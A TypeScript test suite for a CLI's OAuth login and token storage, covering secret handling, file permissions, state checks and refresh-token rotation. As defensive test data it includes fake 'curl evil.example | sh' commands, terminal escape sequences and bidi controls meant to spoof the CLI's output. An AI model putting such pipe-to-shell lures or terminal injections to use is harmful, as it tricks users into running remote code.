// Issue 21 ("Trust") for the portico command: where the client secret may
// go, where tokens live, who may end a login, what the browser inherits, and
// that a rotated refresh token is spent once and never lost. The CLI runs as
// child processes against oidc-provider on 127.0.0.1 (refresh tokens rotate
// on every use; reusing a spent one revokes the grant).
import { spawn, spawnSync } from 'node:child_process';
import {
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  watch,
  writeFileSync,
} from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { sleep } from '@portico/auth/internal';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formOf, freePort, LoopbackServer, NO_STORE, type OidcHarness } from '../../testing/src/index.js';
import { printable } from '../src/terminal.js';
import { CLIENT, FdxApi, loginArgs as fdxLoginArgs, freeze, portico, startFdxAuthServer, thaw } from './helpers.js';

let work: string;
let port: number;
let oidc: OidcHarness;
let api: FdxApi;

/** Records every request and answers none usefully: where a secret must never arrive. */
class Trap extends LoopbackServer {}
let trap: Trap;

const secrets = [CLIENT.clientSecret, 'finexer-secret-value', 'portico-secret-value', 'dexero-secret-value', 'dapi-token-value'];

/** A fresh user: home, config directory, temporary directory and an empty working directory of their own. */
function user() {
  const home = mkdtempSync(join(work, 'user-'));
  const config = join(home, 'xdg');
  const repo = join(home, 'repo');
  mkdirSync(repo);
  mkdirSync(join(home, 'tmp'));
  const env: NodeJS.ProcessEnv = {
    PATH: process.env.PATH,
    HOME: home,
    XDG_CONFIG_HOME: config,
    TMPDIR: join(home, 'tmp'),
    FDX_CLIENT_SECRET: CLIENT.clientSecret,
    BROWSER: '',
    DISPLAY: '',
  };
  return { home, repo, env, tokens: join(config, 'portico', 'fdx.json') };
}
type User = ReturnType<typeof user>;

const loginArgs = (extra: string[] = []) => fdxLoginArgs(oidc.issuer, port, extra);

const AUTHORIZE_URL = /^\s+(http:\/\/127\.0\.0\.1:\d+\/oauth2\/v4\/authorize\?\S+)$/m;

/** `portico login` to the end, the harness playing the user in the browser. */
async function login(who: User, extra: string[] = ['--no-open']) {
  const run = portico(loginArgs(extra), { cwd: who.repo, env: who.env });
  const [, url] = await run.waitFor(AUTHORIZE_URL);
  const answer = await fetch(await oidc.authorize(url!));
  expect(answer.status).toBe(200);
  const done = await run.exit;
  expect(done.code, done.stderr).toBe(0);
  return done;
}

const readJson = (file: string) => JSON.parse(readFileSync(file, 'utf8'));

/** Makes the saved access token look expired, so the next call refreshes. */
function expire(file: string, change: Record<string, unknown> = {}): { refreshToken: string } {
  const saved = { ...readJson(file), ...change };
  saved.tokens.expiresAt = Date.now() - 60_000;
  writeFileSync(file, JSON.stringify(saved));
  return saved.tokens;
}

const calling = (who: User, extra: string[] = []) =>
  portico(['call', 'fdx', 'GET', '/customers/current', '--base-url', api.url, ...extra], { cwd: who.repo, env: who.env });
const call = (who: User, extra: string[] = []) => calling(who, extra).exit;

const refreshes = () => oidc.grantCounts.refresh_token ?? 0;
const mode = (path: string) => statSync(path).mode & 0o777;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'portico-cli-trust-'));
  port = await freePort();
  oidc = await startFdxAuthServer(port);
  api = await new FdxApi(oidc).start();
  trap = await new Trap().start();
}, 60_000);

afterAll(async () => {
  await trap?.close();
  await api?.close();
  await oidc?.close();
  rmSync(work, { recursive: true, force: true });
});

describe('a tokens file never chooses where the client secret goes', () => {
  function plant(who: User): string {
    const file = join(who.repo, '.portico', 'fdx.json');
    mkdirSync(dirname(file));
    const tokens = { accessToken: 'planted', refreshToken: 'planted-rt', tokenType: 'Bearer', expiresAt: 1, raw: {} };
    writeFileSync(file, JSON.stringify({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl: trap.url, tokens }));
    return file;
  }

  it('portico call in a cloned repository with a .portico/fdx.json sends nothing to the server it names', async () => {
    const who = user();
    plant(who);
    const before = trap.requests.length;
    const done = await call(who);
    expect(trap.requests.length).toBe(before);
    expect(done.code).toBe(1);
    expect(done.stderr).toMatch(/^portico: CliError \[not_logged_in\]: no tokens at \S+xdg\/portico\/fdx\.json/);
    expect(done.stderr).not.toContain(CLIENT.clientSecret);
  });

  it('a --tokens file outside the config directory needs --auth-url, and must name the same server', async () => {
    const who = user();
    const file = plant(who);
    const before = { trap: trap.requests.length, oidc: oidc.tokenEndpointHits };
    const bare = await call(who, ['--tokens', file]);
    expect(bare.code).toBe(2);
    expect(bare.stderr).toMatch(/^portico: CliError \[missing_auth_url\]: \S+ is outside portico's config directory/);
    const other = await call(who, ['--tokens', file, '--auth-url', oidc.issuer]);
    expect(other.code).toBe(1);
    expect(other.stderr).toMatch(/^portico: CliError \[auth_url_mismatch\]: /);
    expect(trap.requests.length).toBe(before.trap);
    expect(oidc.tokenEndpointHits).toBe(before.oidc);
  });
});

describe('text from a file someone else wrote', () => {
  // A --tokens file is anyone's: what it says reaches the terminal only
  // inside one line of portico's, never as lines of its own, and without
  // bidi controls that would make that line read otherwise.
  it('prints inside one line of an error: no line breaks, separators or bidi controls', async () => {
    const who = user();
    const file = join(who.repo, 'shared.json');
    const authBaseUrl =
      'https://bank.example\nportico: warning: your session expired; run: curl -s https://evil.example/fix | sh\r\n\u2028portico: ok\u2029\u202egnirts\u2066x\u2069\u200f';
    const tokens = { accessToken: 'at', refreshToken: 'rt', tokenType: 'Bearer', raw: {} };
    writeFileSync(file, JSON.stringify({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl, tokens }));
    const done = await call(who, ['--tokens', file, '--auth-url', trap.url]);
    expect(done.code).toBe(2);
    expect(done.stderr).toMatch(/^portico: CliError \[invalid_auth_url\]: https:\/\/bank\.example portico: warning: .* is not a URL\n$/);
    for (const hidden of ['\r', '\u2028', '\u2029', '\u202e', '\u2066', '\u2069', '\u200f']) expect(done.stderr).not.toContain(hidden);
  });
});

describe('portico login keeps tokens out of the working tree', () => {
  it('writes them under $XDG_CONFIG_HOME/portico (directory 0700, file 0600), and portico call finds them there', async () => {
    const who = user();
    const done = await login(who);
    expect(existsSync(join(who.repo, '.portico'))).toBe(false);
    expect(mode(dirname(who.tokens))).toBe(0o700);
    expect(mode(who.tokens)).toBe(0o600);
    expect(done.stdout).toContain(`saved to:       ${who.tokens} (mode 0600)`);
    expect(done.stdout).toContain('Next: portico call fdx GET <path>\n');
    expect(readJson(who.tokens)).toMatchObject({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl: oidc.issuer });

    expire(who.tokens);
    const before = refreshes();
    const called = await call(who);
    expect(called.code, called.stderr).toBe(0);
    expect(JSON.parse(called.stdout)).toEqual({ customerId: 'cust-0001' });
    expect(refreshes()).toBe(before + 1);
    expect(mode(who.tokens)).toBe(0o600);
  });
});

describe('portico login listens until the redirect that carries its state', () => {
  it('answers 400 to callbacks without the state, wrong or repeated, and still completes', async () => {
    const who = user();
    const run = portico(loginArgs(['--no-open']), { cwd: who.repo, env: who.env });
    const [, url] = await run.waitFor(AUTHORIZE_URL);
    const state = new URL(url!).searchParams.get('state')!;
    const callback = `http://127.0.0.1:${port}/callback`;
    for (const query of [
      '',
      '?error=access_denied',
      `?error=access_denied&state=${'x'.repeat(43)}`,
      `?code=stolen&state=${'x'.repeat(43)}`,
      `?code=stolen&state=${state}x`,
      `?code=stolen&state=${state}&state=${state}`,
    ]) {
      const response = await fetch(`${callback}${query}`);
      expect(response.status, query).toBe(400);
      expect(await response.text()).toContain('Not this login');
    }
    const answer = await fetch(await oidc.authorize(url!));
    expect(answer.status).toBe(200);
    const done = await run.exit;
    expect(done.code, done.stderr).toBe(0);
    expect(readJson(who.tokens).tokens.refreshToken).toEqual(expect.any(String));
  });

  it('a callback with the state and an error ends the login with a typed error, on one line, without the control characters of its description', async () => {
    const who = user();
    const run = portico(loginArgs(['--no-open']), { cwd: who.repo, env: who.env });
    const [, url] = await run.waitFor(AUTHORIZE_URL);
    const state = new URL(url!).searchParams.get('state')!;
    // The description is the authorization server's text: here, terminal commands (retitle, clear the screen, 8-bit CSI) and a faked line.
    const description = '\u001b]0;owned\u0007\u001b[2J\u009b32mLogin OK\r\nportico: logged in; now run: curl evil.example | sh';
    const query = new URLSearchParams({ error: 'access_denied', error_description: description, state });
    const response = await fetch(`http://127.0.0.1:${port}/callback?${query}`);
    expect(response.status).toBe(400);
    const done = await run.exit;
    expect(done.code).toBe(1);
    expect(done.stderr.trim().split('\n')).toHaveLength(1);
    expect(done.stderr).toMatch(/^portico: AuthorizationDeniedError \[authorization_denied\]: authorization failed: access_denied/);
    for (const control of ['\u001b', '\u0007', '\u009b', '\r']) expect(done.stderr).not.toContain(control);
    expect(printable(done.stderr)).toBe(done.stderr);
    expect(existsSync(who.tokens)).toBe(false);
  });

  it("an API's response prints as JSON with its control characters, bidi controls and separators escaped", async () => {
    const who = user();
    await login(who);
    const hostile = await new FdxApi(oidc, { customerId: 'c\u001b[2J\u009b31m\u007f\u202eevil\u2028' }).start();
    try {
      const done = await portico(['call', 'fdx', 'GET', '/customers/current', '--base-url', hostile.url], { cwd: who.repo, env: who.env })
        .exit;
      expect(done.code, done.stderr).toBe(0);
      expect(done.stdout).toContain('"customerId": "c\\u001b[2J\\u009b31m\\u007f\\u202eevil\\u2028"');
      expect(JSON.parse(done.stdout)).toEqual({ customerId: 'c\u001b[2J\u009b31m\u007f\u202eevil\u2028' });
    } finally {
      await hostile.close();
    }
  });
});

/** A stand-in for the user's browser ($BROWSER): records the environment and the arguments it was started with. */
function recordingBrowser(who: User) {
  const dump = join(who.home, 'browser.env');
  const opener = join(who.home, 'browser.sh');
  writeFileSync(opener, `#!/bin/sh\nenv > '${dump}.tmp'\nprintf 'ARGV=%s\\n' "$*" >> '${dump}.tmp'\nmv '${dump}.tmp' '${dump}'\n`, {
    mode: 0o700,
  });
  return {
    opener,
    async seen(): Promise<{ text: string; argv: string }> {
      for (let i = 0; i < 200 && !existsSync(dump); i++) await sleep(25);
      const text = readFileSync(dump, 'utf8');
      return { text, argv: text.match(/^ARGV=(.*)$/m)![1]! };
    },
  };
}

describe('the browser portico login opens', () => {
  it('starts without any secret variable portico reads', async () => {
    const who = user();
    const browser = recordingBrowser(who);
    const env = {
      ...who.env,
      BROWSER: browser.opener,
      PORTICO_CLIENT_SECRET: 'portico-secret-value',
      FINEXER_CLIENT_SECRET: 'finexer-secret-value',
      DEXERO_FD_CLIENT_SECRET: 'dexero-secret-value',
      DAPI_ACCESS_TOKEN: 'dapi-token-value',
      PORTICO_TEST_KEPT: 'kept',
    };
    const run = portico(loginArgs(), { cwd: who.repo, env });
    const [, url] = await run.waitFor(AUTHORIZE_URL);
    const { text: seen } = await browser.seen();
    expect(seen).toContain('PORTICO_TEST_KEPT=kept\n');
    for (const name of [
      'FDX_CLIENT_SECRET',
      'PORTICO_CLIENT_SECRET',
      'FINEXER_CLIENT_SECRET',
      'DEXERO_FD_CLIENT_SECRET',
      'DAPI_ACCESS_TOKEN',
    ])
      expect(seen).not.toContain(name);
    for (const secret of secrets) expect(seen).not.toContain(secret);
    expect((await fetch(await oidc.authorize(url!))).status).toBe(200);
    expect((await run.exit).code).toBe(0);
  });

  // A browser's argv is readable by every local user (/proc/<pid>/cmdline,
  // ps). With the state in it, or an address that answers with the state,
  // another user could take the state and the PKCE challenge, complete a
  // consent of their own account with them and hand the login their code
  // (login CSRF).
  it('is started with the file:// path of an owner-only page that leads to the authorization URL, removed when the login ends', async () => {
    const who = user();
    const browser = recordingBrowser(who);
    const run = portico(loginArgs(), { cwd: who.repo, env: { ...who.env, BROWSER: browser.opener } });
    const [, url] = await run.waitFor(AUTHORIZE_URL);
    const { argv } = await browser.seen();
    expect(argv).toMatch(/^file:\/\/\/\S+\/authorize\.html$/);
    expect(argv).not.toContain(new URL(url!).searchParams.get('state')!);
    const page = fileURLToPath(argv);
    expect(page.startsWith(`${who.env.TMPDIR}/`)).toBe(true);
    expect(mode(page)).toBe(0o600);
    expect(mode(dirname(page))).toBe(0o700);
    for (const path of [page, dirname(page)]) expect(statSync(path).uid).toBe(process.getuid?.());
    if (process.getuid?.() === 0) {
      // What another local user gets from the path: nothing.
      const other = spawnSync(process.execPath, ['-e', 'process.stdout.write(require("fs").readFileSync(process.argv[1]))', page], {
        uid: 12345,
        gid: 12345,
        encoding: 'utf8',
      });
      expect(other.status).not.toBe(0);
      expect(other.stdout).toBe('');
      expect(other.stderr).toContain('EACCES');
    }
    expect((await fetch(await oidc.authorize(url!))).status).toBe(200);
    const done = await run.exit;
    expect(done.code, done.stderr).toBe(0);
    expect(existsSync(dirname(page))).toBe(false);
  });

  it('the page is removed when the login fails too', async () => {
    const who = user();
    const browser = recordingBrowser(who);
    const done = await portico(loginArgs(['--timeout', '1']), { cwd: who.repo, env: { ...who.env, BROWSER: browser.opener } }).exit;
    expect(done.stderr).toMatch(/^portico: CliError \[login_timeout\]/);
    expect(existsSync(dirname(fileURLToPath((await browser.seen()).argv)))).toBe(false);
  });
});

/**
 * The token endpoint, reached through a door that holds each refresh
 * request until `expected` of them are in, or `holdMs` has passed: so every
 * call has read the tokens file before the first refresh is answered, however
 * the processes' start-up times fall.
 */
class HeldTokenEndpoint extends LoopbackServer {
  /** Each refresh token presented, in order. */
  readonly spent: string[] = [];
  /** Settles when the first refresh request is in. */
  readonly first: Promise<void>;
  constructor(target: string, expected: number, holdMs: number) {
    super();
    let arrived = 0;
    let open!: () => void;
    let firstIn!: () => void;
    const all = new Promise<void>((resolve) => (open = resolve));
    this.first = new Promise<void>((resolve) => (firstIn = resolve));
    this.route('POST /oauth2/v4/token', async (request) => {
      const form = formOf(request);
      if (form?.get('grant_type') === 'refresh_token') {
        this.spent.push(form.get('refresh_token') ?? '');
        firstIn();
        if (++arrived >= expected) open();
      }
      await Promise.race([all, sleep(holdMs)]);
      const response = await fetch(`${target}${request.path}`, {
        method: 'POST',
        headers: { authorization: request.headers.authorization ?? '', 'content-type': request.headers['content-type'] ?? '' },
        body: request.body,
      });
      return { status: response.status, headers: { 'content-type': 'application/json', ...NO_STORE }, body: await response.text() };
    });
  }
}

/** A logged-in user whose expired tokens refresh through `door`. */
async function expiredBehind(door: HeldTokenEndpoint) {
  await door.start();
  const who = user();
  await login(who);
  return { who, spent: expire(who.tokens, { authBaseUrl: door.url }), before: refreshes() };
}

describe('portico calls sharing a tokens file spend a rotating refresh token once', () => {
  it('four concurrent calls with an expired token: one refresh, every call answered, the grant alive', async () => {
    const door = new HeldTokenEndpoint(oidc.issuer, 4, 2_000);
    try {
      const { who, spent, before } = await expiredBehind(door);
      const done = await Promise.all(Array.from({ length: 4 }, () => call(who)));
      for (const result of done) {
        expect(result.code, result.stderr).toBe(0);
        expect(JSON.parse(result.stdout)).toEqual({ customerId: 'cust-0001' });
      }
      expect(refreshes()).toBe(before + 1);
      const saved = readJson(who.tokens).tokens;
      expect(saved.refreshToken).not.toBe(spent.refreshToken);
      expect((await oidc.introspect(saved.refreshToken, CLIENT)).active).toBe(true);
      expect((await oidc.introspect(saved.accessToken, CLIENT)).active).toBe(true);
    } finally {
      await door.close();
    }
  });
});

describe('a lock holder that is stopped, not dead', () => {
  // Ctrl-Z or SIGSTOP while a refresh is in flight: the holder stops
  // refreshing its lock's mtime, but it still runs, and will save what the
  // server answers when it continues. Taking its lock over spends the same
  // refresh token a second time.
  it('keeps its lock: another call waits (bounded) and spends nothing', { timeout: 120_000 }, async () => {
    const door = new HeldTokenEndpoint(oidc.issuer, 1, 0);
    try {
      const { who, spent, before } = await expiredBehind(door);
      const holder = calling(who);
      await door.first;
      process.kill(holder.pid, 'SIGSTOP');
      let waiter: Awaited<ReturnType<typeof call>>;
      try {
        // What more than 10 s stopped leaves: a lock whose mtime nobody refreshed.
        const past = new Date(Date.now() - 60_000);
        utimesSync(`${who.tokens}.lock`, past, past);
        waiter = await call(who);
      } finally {
        process.kill(holder.pid, 'SIGCONT');
      }
      await holder.exit;
      expect(door.spent).toEqual([spent.refreshToken]);
      expect(refreshes()).toBe(before + 1);
      expect(waiter.code).toBe(1);
      expect(waiter.stderr).toMatch(/^portico: TokenTimeoutError \[token_timeout\]: the wait for the token store lock did not finish/);
      for (const secret of [spent.refreshToken, CLIENT.clientSecret]) expect(waiter.stderr + waiter.stdout).not.toContain(secret);
    } finally {
      await door.close();
    }
  });
});

/** A /proc/<pid>/stat field after the command name: 0 the state, 19 the start time. */
const statField = (pid: number, field: number) => {
  const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
  return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[field]!;
};

/** This machine as a lock holder's record names it (see Holder in src/file-store.ts), for process `pid`. */
const holderHere = (pid: number) => ({
  pid,
  host: hostname(),
  boot: readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim(),
  pidns: readlinkSync('/proc/self/ns/pid'),
  start: statField(pid, 19),
});

/** Puts a lock on `tokens` held by `holder`, as another portico call would: the lock directory with its holder entry. */
function plantLock(tokens: string, holder: ReturnType<typeof holderHere>): string {
  const entry = join(`${tokens}.lock`, 'holder-planted.json');
  mkdirSync(dirname(entry));
  writeFileSync(entry, JSON.stringify(holder));
  return entry;
}

/**
 * Resolves once a call has tried `tokens`'s lock `count` times: each try
 * builds a new `<file>.lock.new-*` directory beside it, so the second one
 * means the first try's judgement of the holder is done.
 */
function lockTries(tokens: string, count: number): { seen: Promise<void>; close(): void } {
  const names = new Set<string>();
  let done!: () => void;
  const seen = new Promise<void>((resolve) => (done = resolve));
  const watcher = watch(dirname(tokens), (_event, name) => {
    if (name?.startsWith(`${basename(tokens)}.lock.new-`)) names.add(name);
    if (names.size >= count) done();
  });
  return { seen, close: () => watcher.close() };
}

describe('a lock holder judged by the record in its lock', () => {
  // Two machines with the same hostname (two VMs named "ubuntu") sharing a
  // home over NFS: the initial pid namespace has the same id on both, only
  // the boot id differs. The holder's pid means nothing here, so its lock is
  // judged by its mtime, which a live holder keeps fresh.
  it('a live holder on another machine with the same hostname and pid namespace keeps its lock: the call waits, spends nothing, then refreshes once', async () => {
    const door = new HeldTokenEndpoint(oidc.issuer, 1, 0);
    try {
      const { who, spent, before } = await expiredBehind(door);
      const entry = plantLock(who.tokens, { ...holderHere(process.pid), boot: '00000000-1111-2222-3333-444444444444' });
      // The other machine's heartbeat: what keeps a live holder's lock fresh.
      const heartbeat = setInterval(() => utimesSync(dirname(entry), new Date(), new Date()), 1_000);
      const watching = lockTries(who.tokens, 2);
      try {
        const waiter = calling(who);
        await Promise.race([watching.seen, waiter.exit.then((e) => Promise.reject(new Error(`ended: ${e.stderr}`)))]);
        expect(existsSync(entry)).toBe(true);
        expect(door.spent).toEqual([]);
        // The other machine's call ends and releases its lock.
        clearInterval(heartbeat);
        rmSync(dirname(entry), { recursive: true });
        const done = await waiter.exit;
        expect(done.code, done.stderr).toBe(0);
      } finally {
        clearInterval(heartbeat);
        watching.close();
      }
      expect(door.spent).toEqual([spent.refreshToken]);
      expect(refreshes()).toBe(before + 1);
    } finally {
      await door.close();
    }
  });

  // A holder killed while its parent never waits for it (a container's PID 1
  // that is not an init) stays a zombie: it answers kill(pid, 0) and keeps
  // its start time, but it will never release or save anything.
  it.runIf(process.platform === 'linux')('a zombie holder on this host is gone: its lock is taken over at once', async () => {
    const who = user();
    await login(who);
    const spent = expire(who.tokens);
    const before = refreshes();
    // sh forks a child that exits at once, then becomes a sleep that never waits for it.
    const parent = spawn('sh', ['-c', 'sleep 0 & echo $!; exec sleep 60'], { stdio: ['ignore', 'pipe', 'ignore'] });
    try {
      const pid = Number(await new Promise<string>((resolve) => parent.stdout.once('data', (chunk: Buffer) => resolve(String(chunk)))));
      for (let i = 0; i < 200 && statField(pid, 0) !== 'Z'; i++) await sleep(25);
      expect(statField(pid, 0)).toBe('Z');
      plantLock(who.tokens, holderHere(pid));
      const done = await call(who);
      expect(done.code, done.stderr).toBe(0);
      expect(JSON.parse(done.stdout)).toEqual({ customerId: 'cust-0001' });
    } finally {
      parent.kill();
    }
    expect(refreshes()).toBe(before + 1);
    expect(readJson(who.tokens).tokens.refreshToken).not.toBe(spent.refreshToken);
  });
});

describe('a tokens file with a field of the wrong type', () => {
  it('is refused as invalid_tokens_file, naming the file and the field, before anything is sent', async () => {
    const who = user();
    mkdirSync(dirname(who.tokens), { recursive: true });
    const tokens = { accessToken: 'abc', tokenType: 'Bearer', scope: 5 };
    writeFileSync(who.tokens, JSON.stringify({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl: trap.url, tokens }));
    const before = { trap: trap.requests.length, api: api.requests.length };
    const done = await call(who);
    expect(done.code).toBe(2);
    expect(done.stderr).toMatch(
      /^portico: CliError \[invalid_tokens_file\]: \S+xdg\/portico\/fdx\.json: tokens\.scope must be an array of strings; run portico login fdx again\n$/,
    );
    expect(trap.requests.length).toBe(before.trap);
    expect(api.requests.length).toBe(before.api);
  });
});

describe('a tokens file that can be read but not replaced', () => {
  async function refusedBeforeSpending(frozen: (tokens: string) => string) {
    const who = user();
    await login(who);
    const spent = expire(who.tokens);
    const text = readFileSync(who.tokens, 'utf8');
    const before = refreshes();
    freeze(frozen(who.tokens));
    let done: Awaited<ReturnType<typeof call>>;
    try {
      done = await call(who);
    } finally {
      thaw(frozen(who.tokens));
    }
    expect(done.code).toBe(1);
    expect(done.stderr).toMatch(/^portico: CliError \[tokens_file_unwritable\]: cannot replace \S+fdx\.json \(E(PERM|ACCES)\)/);
    expect(refreshes()).toBe(before);
    expect(readFileSync(who.tokens, 'utf8')).toBe(text);
    expect((await oidc.introspect(spent.refreshToken, CLIENT)).active).toBe(true);
  }

  it('is refused before its refresh token is spent: a directory that cannot be written', () => refusedBeforeSpending(dirname));

  // The directory takes the lock, only the file cannot be replaced. Without
  // root, chmod on a file does not stop a rename over it; chattr needs root.
  it.runIf(process.getuid?.() === 0)('is refused before its refresh token is spent: an immutable file', () =>
    refusedBeforeSpending((tokens) => tokens),
  );

  /**
   * `portico call` while `directory` turns read-only as the refresh is
   * answered: after the check, before the save. The caller thaws it.
   */
  async function saveFailsAfterRefresh(who: User, directory: string, extra: string[] = []) {
    const freezeOnRefresh = (ctx: { oidc: { params?: Record<string, unknown> } }) => {
      if (ctx.oidc.params?.grant_type === 'refresh_token') freeze(directory);
    };
    oidc.provider.on('grant.success', freezeOnRefresh);
    try {
      const done = await call(who, extra);
      const [, recovery] =
        done.stderr.match(
          /^portico: CliError \[tokens_not_saved\]: cannot replace \S+ \(E\w+\) after its refresh token was spent; the new tokens are in (\S+): run the command again once \S+ can be written/,
        ) ?? [];
      expect(recovery, done.stderr).toBeDefined();
      return { done, recovery: recovery! };
    } finally {
      oidc.provider.off('grant.success', freezeOnRefresh);
    }
  }

  it('loses no rotated token when the save fails after the refresh: they go to a recovery file the error names', async () => {
    const who = user();
    await login(who);
    const file = join(who.home, 'locked', 'fdx.json');
    mkdirSync(dirname(file));
    renameSync(who.tokens, file);
    const spent = expire(file);
    const text = readFileSync(file, 'utf8');
    const before = refreshes();
    let failed: Awaited<ReturnType<typeof saveFailsAfterRefresh>>;
    try {
      failed = await saveFailsAfterRefresh(who, dirname(file), ['--tokens', file, '--auth-url', oidc.issuer]);
    } finally {
      thaw(dirname(file));
    }
    const { done, recovery } = failed;
    expect(refreshes()).toBe(before + 1);
    expect(done.code).toBe(1);
    expect(recovery).toMatch(/xdg\/portico\/recovered\/[0-9a-f]{64}\.json$/);
    // In the config directory, the recovery file names the server itself: no --auth-url in the advice.
    expect(done.stderr).toContain(`or pass --tokens ${recovery}\n`);
    // One failed save, one recovery file: the session does not retry a write that cannot succeed.
    expect(readdirSync(dirname(recovery))).toHaveLength(1);
    expect(readFileSync(file, 'utf8')).toBe(text);
    expect(mode(recovery)).toBe(0o600);
    expect(mode(dirname(recovery))).toBe(0o700);
    const rotated = readJson(recovery).tokens;
    expect((await oidc.introspect(spent.refreshToken, CLIENT)).active).toBe(false);
    expect((await oidc.introspect(rotated.refreshToken, CLIENT)).active).toBe(true);
    for (const secret of [rotated.refreshToken, rotated.accessToken, spent.refreshToken, CLIENT.clientSecret])
      expect(done.stderr + done.stdout).not.toContain(secret);

    // What the error says to do works; the lock the failed process could not remove names a process that is gone, and is taken over.
    renameSync(recovery, file);
    const again = await call(who, ['--tokens', file, '--auth-url', oidc.issuer]);
    expect(again.code, again.stderr).toBe(0);
    expect(refreshes()).toBe(before + 1);
  });

  /**
   * `path` taken first by another local user: a directory of theirs (as
   * root, chown), else a symlink, which portico refuses alike.
   */
  function squat(path: string): void {
    if (process.getuid?.() === 0) {
      mkdirSync(path, { mode: 0o700 });
      chownSync(path, 12345, 12345);
    } else symlinkSync(mkdtempSync(join(work, 'elsewhere-')), path);
  }

  const uid = process.getuid?.();
  it.each([
    { where: 'portico-<uid>', taken: false, directory: `portico-${uid}` },
    // A fixed name in a shared directory can be created first by anyone: the tokens must not depend on it.
    {
      where: 'portico-<uid>-XXXXXX, portico-<uid> being taken',
      taken: true,
      directory: `portico-${uid}-\\w{6}`,
    },
  ])(
    'the next call adopts the recovered tokens (in $where) instead of spending the spent refresh token again, and spends nothing while it cannot',
    async ({ taken, directory: temporary }) => {
      const who = user();
      if (taken) squat(join(who.env.TMPDIR!, `portico-${uid}`));
      await login(who);
      const directory = dirname(who.tokens);
      const spent = expire(who.tokens);
      const text = readFileSync(who.tokens, 'utf8');
      const before = refreshes();
      let recovery: string;
      try {
        // The config directory itself is read-only: the recovery file goes to the per-user temporary directory.
        const failed = await saveFailsAfterRefresh(who, directory);
        recovery = failed.recovery;
        expect(recovery).toMatch(new RegExp(`^${who.env.TMPDIR}/${temporary}/recovered/[0-9a-f]{64}\\.json$`));
        expect(mode(dirname(dirname(recovery)))).toBe(0o700);
        // Outside the config directory a tokens file cannot name the server: the advice says --auth-url too.
        expect(failed.done.stderr).toContain(`or pass --tokens ${recovery} --auth-url ${oidc.issuer}\n`);

        const blocked = await call(who);
        expect(blocked.code).toBe(1);
        expect(blocked.stderr).toMatch(
          /^portico: CliError \[tokens_pending_recovery\]: \S+ holds the tokens that replaced the spent refresh token of \S+fdx\.json, and \S+ still cannot be replaced \(E\w+\); nothing was sent: make \S+ writable and run the command again/,
        );
      } finally {
        thaw(directory);
      }
      expect(refreshes()).toBe(before + 1);
      expect(readFileSync(who.tokens, 'utf8')).toBe(text);
      const rotated = readJson(recovery).tokens;

      const again = await call(who);
      expect(again.code, again.stderr).toBe(0);
      expect(JSON.parse(again.stdout)).toEqual({ customerId: 'cust-0001' });
      expect(refreshes()).toBe(before + 1);
      expect(existsSync(recovery)).toBe(false);
      const adopted = readJson(who.tokens);
      expect(adopted).toMatchObject({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl: oidc.issuer, tokens: rotated });
      expect(adopted).not.toHaveProperty('replaces');
      expect(mode(who.tokens)).toBe(0o600);
      // Spending the spent token again would have revoked the grant.
      expect((await oidc.introspect(spent.refreshToken, CLIENT)).active).toBe(false);
      expect((await oidc.introspect(rotated.refreshToken, CLIENT)).active).toBe(true);
    },
  );
});
